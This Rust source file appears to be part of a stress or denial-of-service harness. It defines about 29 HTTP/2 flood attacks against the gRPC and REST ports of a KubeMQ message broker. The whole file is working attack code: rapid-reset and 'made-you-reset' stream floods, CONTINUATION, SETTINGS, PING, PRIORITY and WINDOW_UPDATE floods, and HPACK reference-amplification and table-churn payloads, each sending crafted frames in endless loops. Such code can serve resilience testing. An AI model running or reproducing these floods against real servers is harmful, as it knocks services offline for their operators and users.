//! Floods of frames of HTTP/2, against whatever speaks it.

use std::net::SocketAddr;
use std::time::Duration;

use super::peer::{Peer, call, fields, flag, framed, kind, put, put_integer};
use super::{Attack, Field, Over, Port, on};

pub(super) const ATTACKS: &[Attack] = &[
    on(Port::Grpc, "rapid-reset", rapid_reset),
    on(Port::Grpc, "rapid-reset-subscribe", rapid_reset_subscribe),
    on(Port::Grpc, "rapid-reset-in-work", rapid_reset_in_work),
    on(Port::Grpc, "made-you-reset-zero", made_you_reset_zero),
    on(
        Port::Grpc,
        "made-you-reset-overflow",
        made_you_reset_overflow,
    ),
    on(Port::Grpc, "made-you-reset-itself", made_you_reset_itself),
    on(Port::Grpc, "continuation", continuation),
    on(Port::Grpc, "settings", settings),
    on(Port::Grpc, "settings-of-4000-streams", settings_of_streams),
    on(Port::Grpc, "ping", ping),
    on(Port::Grpc, "ping-unread", ping_unread),
    on(Port::Grpc, "priority", priority),
    on(Port::Grpc, "empty-data", empty_data),
    on(Port::Grpc, "padded-data", padded_data),
    on(Port::Grpc, "window-updates", window_updates),
    on(Port::Grpc, "unknown-frames", unknown_frames),
    on(Port::Grpc, "header-list", header_list),
    on(Port::Grpc, "hpack-references", hpack_references),
    on(Port::Grpc, "hpack-long-references", hpack_long_references),
    on(Port::Grpc, "hpack-churn", hpack_churn),
    on(Port::Rest, "rest-rapid-reset", rapid_reset),
    on(Port::Rest, "rest-made-you-reset", made_you_reset_zero),
    on(Port::Rest, "rest-continuation", continuation),
    on(Port::Rest, "rest-settings", settings),
    on(Port::Rest, "rest-ping", ping),
    on(Port::Rest, "rest-ping-unread", ping_unread),
    on(Port::Rest, "rest-empty-data", empty_data),
    on(Port::Rest, "rest-window-updates", window_updates),
    on(Port::Rest, "rest-hpack-references", hpack_references),
];

const REQUEST: &str = "/kubemq.kubemq/SendRequest";
const SUBSCRIBE: &str = "/kubemq.kubemq/SubscribeToEvents";
const STREAM: &str = "/kubemq.kubemq/SendEventsStream";

/// Frames that are written together.
const TOGETHER: usize = 500;

const CANCEL: [u8; 4] = 8_u32.to_be_bytes();

/// Calls that are reset as soon as they are made.
fn resets(peer: &mut Peer<'_>, path: &str, message: Option<&[u8]>) -> Result<(), Over> {
    let head = call(path);
    loop {
        let mut chunk = Vec::new();
        for _ in 0..TOGETHER {
            let stream = peer.next_stream()?;
            put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
            if let Some(message) = message {
                put(&mut chunk, kind::DATA, flag::END_STREAM, stream, message);
            }
            put(&mut chunk, kind::RST_STREAM, 0, stream, &CANCEL);
        }
        peer.send(&chunk)?;
    }
}

fn rapid_reset(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| resets(peer, REQUEST, None));
}

/// Type, client, channel.
fn subscription() -> Vec<u8> {
    framed(b"\x08\x01\x12\x06attack\x1a\x08attack.>")
}

fn rapid_reset_subscribe(field: &Field, address: SocketAddr) {
    let message = subscription();
    field.peers(address, |peer| resets(peer, SUBSCRIBE, Some(&message)));
}

/// The broker has begun its work before it is told that nobody wants it.
fn rapid_reset_in_work(field: &Field, address: SocketAddr) {
    let (head, message) = (call(SUBSCRIBE), subscription());
    field.peers(address, |peer| {
        loop {
            let (mut calls, mut resets) = (Vec::new(), Vec::new());
            for _ in 0..TOGETHER {
                let stream = peer.next_stream()?;
                put(&mut calls, kind::HEADERS, flag::END_HEADERS, stream, &head);
                put(&mut calls, kind::DATA, flag::END_STREAM, stream, &message);
                put(&mut resets, kind::RST_STREAM, 0, stream, &CANCEL);
            }
            peer.send(&calls)?;
            field.pause(Duration::from_millis(1));
            peer.send(&resets)?;
        }
    });
}

/// Calls that the broker itself has to reset, for what follows them.
fn mistakes(peer: &mut Peer<'_>, mut mistake: impl FnMut(&mut Vec<u8>, u32)) -> Result<(), Over> {
    let head = call(STREAM);
    loop {
        let mut chunk = Vec::new();
        for _ in 0..TOGETHER {
            let stream = peer.next_stream()?;
            put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
            mistake(&mut chunk, stream);
        }
        peer.send(&chunk)?;
    }
}

fn made_you_reset_zero(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| {
        mistakes(peer, |chunk, stream| {
            put(chunk, kind::WINDOW_UPDATE, 0, stream, &[0; 4]);
        })
    });
}

fn made_you_reset_overflow(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| {
        mistakes(peer, |chunk, stream| {
            let all = 0x7fff_ffff_u32.to_be_bytes();
            put(chunk, kind::WINDOW_UPDATE, 0, stream, &all);
        })
    });
}

/// Streams that depend on themselves.
fn made_you_reset_itself(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| {
        mistakes(peer, |chunk, stream| {
            let payload = [&stream.to_be_bytes()[..], &[16]].concat();
            put(chunk, kind::PRIORITY, 0, stream, &payload);
        })
    });
}

fn continuation(field: &Field, address: SocketAddr) {
    let piece = fields(&[("x-more", "and more")]);
    field.peers(address, |peer| {
        let stream = peer.next_stream()?;
        let mut chunk = Vec::new();
        put(&mut chunk, kind::HEADERS, 0, stream, &call(REQUEST));
        loop {
            for _ in 0..TOGETHER {
                put(&mut chunk, kind::CONTINUATION, 0, stream, &piece);
            }
            peer.send(&chunk)?;
            chunk.clear();
        }
    });
}

/// The same frame again and again, on a connection with one open call.
fn again(field: &Field, address: SocketAddr, path: &str, frame: impl Fn(u32) -> Vec<u8>) {
    field.peers(address, |peer| {
        let stream = peer.open(path, 0)?;
        let chunk = frame(stream).repeat(TOGETHER);
        loop {
            peer.send(&chunk)?;
        }
    });
}

fn one(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut frame = Vec::new();
    put(&mut frame, kind, flags, stream, payload);
    frame
}

/// Changes the window that new streams begin with.
fn window_setting(bytes: u32) -> Vec<u8> {
    let [a, b, c, d] = bytes.to_be_bytes();
    one(kind::SETTINGS, 0, 0, &[0, 4, a, b, c, d])
}

fn settings(field: &Field, address: SocketAddr) {
    again(field, address, STREAM, |_| window_setting(65_535));
}

/// Each change of the window is one for every open stream.
fn settings_of_streams(field: &Field, address: SocketAddr) {
    let (head, message) = (call(SUBSCRIBE), subscription());
    let changes = [window_setting(70_000), window_setting(60_000)].concat();
    field.peers(address, |peer| {
        for _ in 0..8 {
            let mut chunk = Vec::new();
            for _ in 0..TOGETHER {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, flag::END_HEADERS, stream, &head);
                put(&mut chunk, kind::DATA, flag::END_STREAM, stream, &message);
            }
            peer.send(&chunk)?;
        }
        field.pause(Duration::from_millis(50));
        loop {
            peer.send(&changes.repeat(50))?;
        }
    });
}

fn ping(field: &Field, address: SocketAddr) {
    again(field, address, STREAM, |_| {
        one(kind::PING, 0, 0, b"12345678")
    });
}

fn ping_unread(field: &Field, address: SocketAddr) {
    let chunk = one(kind::PING, 0, 0, b"12345678").repeat(TOGETHER);
    field.peers(address, |peer| {
        loop {
            peer.send_deaf(&chunk)?;
        }
    });
}

fn priority(field: &Field, address: SocketAddr) {
    again(field, address, STREAM, |stream| {
        one(kind::PRIORITY, 0, stream + 2, &[0, 0, 0, 0, 16])
    });
}

fn empty_data(field: &Field, address: SocketAddr) {
    again(field, address, STREAM, |stream| {
        one(kind::DATA, 0, stream, &[])
    });
}

/// Nothing but padding, of which each frame has a little.
fn padded_data(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| {
        let stream = peer.open(STREAM, 0)?;
        let chunk = one(kind::DATA, flag::PADDED, stream, &[0]).repeat(TOGETHER);
        loop {
            peer.send(&chunk)?;
        }
    });
}

fn window_updates(field: &Field, address: SocketAddr) {
    field.peers(address, |peer| {
        let stream = peer.open(STREAM, 0)?;
        let grant = 1_u32.to_be_bytes();
        let mut pair = one(kind::WINDOW_UPDATE, 0, stream, &grant);
        put(&mut pair, kind::WINDOW_UPDATE, 0, 0, &grant);
        let chunk = pair.repeat(TOGETHER);
        // The window of the connection is nearly full: 65,535 updates fit.
        for _ in 0..100 {
            peer.send(&chunk)?;
        }
        Ok(())
    });
}

fn unknown_frames(field: &Field, address: SocketAddr) {
    again(field, address, STREAM, |stream| one(0xbe, 0, stream, &[]));
}

/// Lists of fields that are larger than the broker takes, in whole frames.
fn header_list(field: &Field, address: SocketAddr) {
    let long = "x".repeat(7_000);
    let more = fields(&[("x-one", &long), ("x-two", &long)]);
    field.peers(address, |peer| {
        loop {
            let mut chunk = Vec::new();
            for _ in 0..16 {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, 0, stream, &call(REQUEST));
                put(
                    &mut chunk,
                    kind::CONTINUATION,
                    flag::END_HEADERS,
                    stream,
                    &more,
                );
            }
            peer.send(&chunk)?;
        }
    });
}

/// Calls with a field of that value that is remembered, and as many references to it.
fn references(field: &Field, address: SocketAddr, value: &str, count: usize) {
    // The pseudo fields, then: remember `x: value`.
    let mut first = call(REQUEST);
    first.extend_from_slice(&[0x40, 1, b'x']);
    put_integer(&mut first, 0x00, 7, value.len());
    first.extend_from_slice(value.as_bytes());
    // The newest entry is behind the 61 static ones.
    let mut later = call(REQUEST);
    later.extend(std::iter::repeat_n(0x80 | 62, count));
    let flags = flag::END_HEADERS | flag::END_STREAM;
    field.peers(address, |peer| {
        let stream = peer.next_stream()?;
        let mut chunk = Vec::new();
        put(&mut chunk, kind::HEADERS, flags, stream, &first);
        loop {
            for _ in 0..16 {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, flags, stream, &later);
            }
            peer.send(&chunk)?;
            chunk.clear();
        }
    });
}

/// A byte for each field: as many fields as a list may have.
fn hpack_references(field: &Field, address: SocketAddr) {
    references(field, address, "", 400);
}

/// A byte for each field of almost 4 KiB.
fn hpack_long_references(field: &Field, address: SocketAddr) {
    references(field, address, &"v".repeat(4_000), 15_000);
}

/// Fields that are remembered, each of which pushes another one out.
fn hpack_churn(field: &Field, address: SocketAddr) {
    let mut block = call(REQUEST);
    for _ in 0..400 {
        block.extend_from_slice(&[0x40, 1, b'x', 0]);
    }
    let flags = flag::END_HEADERS | flag::END_STREAM;
    field.peers(address, |peer| {
        loop {
            let mut chunk = Vec::new();
            for _ in 0..32 {
                let stream = peer.next_stream()?;
                put(&mut chunk, kind::HEADERS, flags, stream, &block);
            }
            peer.send(&chunk)?;
        }
    });
}
